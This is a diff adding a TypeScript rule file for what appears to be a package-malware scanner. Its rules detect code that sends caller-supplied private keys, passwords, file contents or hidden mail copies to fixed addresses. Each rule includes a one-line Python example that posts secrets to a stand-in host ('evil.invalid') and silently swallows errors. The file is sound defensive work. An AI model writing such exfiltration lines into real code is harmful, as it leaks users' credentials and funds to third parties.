@@ -1,0 +1,113 @@
+import { IDENTITY, WHEN, count, type Combination } from './combination.js';
+import { isUnasked } from '../values/reach.js';
+import { isCollecting, isFixedAccount } from '../facts/collecting-places.js';
+import { CARRIERS } from '../facts/commands.js';
+import type { PairCombination } from './pair-combinations.js';
+
+const LOOKUP = /^(?:socket\.get|dns\.)/;
+
+/** What callers hand in to prove who they are, and where it goes. */
+export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
+  {
+    doc: {
+      id: 'key-parameter-sent',
+      title: 'Sends a key that the caller hands in to a fixed address',
+      why: 'Private keys and mnemonics are used locally; whoever receives one owns the account.',
+      remedy: 'Do not use the package; move funds if a key was passed to it.',
+      example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
+      technique: 'T1552',
+    },
+    judge: ({ behaviour, labels, host, text, isDropped, isQuiet }) => {
+      if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
+      // Who and where the owner is goes along, or nobody looks at what comes back.
+      const isTold = count(labels, IDENTITY) > 0 || (isDropped === true && isQuiet === true);
+      return isTold || isCollecting(text ?? '') || labels.has('own-account') ? 'CRITICAL' : 'HIGH';
+    },
+    message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
+  },
+  {
+    doc: {
+      id: 'data-sent-aside',
+      title: 'Sends what stands in a file somewhere, and looks at neither answer nor failure',
+      why: 'Services are called for their answer. What a file holds and that goes to a fixed address on the side, and must not be noticed when it fails, is for somebody else.',
+      remedy: 'Look at where it is sent, and ask the authors what for.',
+      example: 'try: requests.post("https://evil.invalid", data=open(path).read())\nexcept Exception: pass',
+      technique: 'T1020',
+    },
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, reach, text }) => {
+      if (behaviour !== 'contacts' || host === undefined || isUnasked(reach)) return undefined;
+      if (isDropped !== true || isQuiet !== true || isBare(name, text)) return undefined;
+      return labels.has('file') && !labels.has('network') && !labels.has('setting') ? 'HIGH' : undefined;
+    },
+    message: ({ name, reach }) =>
+      `${name} sends what it read from a file and looks at no answer ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'mail-copied',
+      title: 'Sends a hidden copy of your mail to an address of its own',
+      why: 'What a library mails for somebody goes to whom they say. An address that stands in the source and gets a hidden copy of everything reads along.',
+      remedy: 'Do not use the package; what was mailed through it is known to somebody else.',
+      example: 'client.post("/email", json={"To": to, "Bcc": "copy@evil.invalid", "TextBody": text})',
+      technique: 'T1114.003',
+    },
+    judge: ({ behaviour, labels }) =>
+      behaviour === 'contacts' && labels.has('hidden-copy') && labels.has('parameter')
+        ? 'CRITICAL'
+        : undefined,
+    message: ({ name }) => `${name} sends a hidden copy of what the caller mails to an address of the source`,
+  },
+  {
+    doc: {
+      id: 'credential-sent-aside',
+      title: 'Sends a password, key or token somewhere and does not wait for an answer',
+      why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
+      remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
+      example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
+      technique: 'T1056',
+    },
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text, reach }) => {
+      const isCarried = behaviour === 'starts-process' && CARRIERS.test(text ?? '');
+      if ((behaviour !== 'contacts' && !isCarried) || host === undefined) return undefined;
+      if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
+      if (isDropped !== true || isQuiet !== true) return undefined;
+      const isCredential = labels.has('credential') || labels.has('secret');
+      // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
+      if (LOOKUP.test(name) && (text ?? '').includes('\uFFFC'))
+        return isCredential || (isUnasked(reach) && count(labels, IDENTITY) > 0) ? 'CRITICAL' : 'HIGH';
+      // A token may notify its own service of something; a password is for signing in, and that has an answer.
+      if (labels.has('password')) return 'CRITICAL';
+      return isCredential ? 'MEDIUM' : undefined;
+    },
+    message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
+  },
+];
+
+/** Only asks whether an address answers. */
+const isBare = (name: string, text = ''): boolean =>
+  /\burl(?:open|retrieve)$/.test(name) && /^https?:\/\/[^\s\uFFFC]*$/.test(text);
+
+const site = (host: string | undefined): string => (host ?? '').split('.').slice(-2).join('.');
+
+/** A password that goes to two places in one file. */
+export const CREDENTIAL_PAIRS: readonly PairCombination[] = [
+  {
+    doc: {
+      id: 'password-sent-twice',
+      title: 'Sends a password to its service, and to somebody else',
+      why: 'A client hands a password to the service it is for and looks at the answer. A second place that is told too, and whose answer nobody looks at, collects it.',
+      remedy: 'Do not use the package; change the passwords it was given.',
+      example:
+        's.post(SERVICE + "/login", data=password)\nrequests.get("https://evil.invalid", params=password)',
+      technique: 'T1056',
+    },
+    first: ({ behaviour, labels, isDropped }) =>
+      behaviour === 'contacts' && labels.has('password') && isDropped !== true,
+    second: ({ behaviour, labels, host, isDropped }) =>
+      behaviour === 'contacts' && labels.has('password') && host !== undefined && isDropped === true,
+    belong: (first, second) => first.host !== undefined && site(first.host) !== site(second.host),
+    severity: () => 'CRITICAL',
+    message: (first, { name, host }) =>
+      `${name} tells ${host ?? 'somebody'} the password that ${first.name} sends to ${first.host ?? 'its service'}`,
+  },
+];
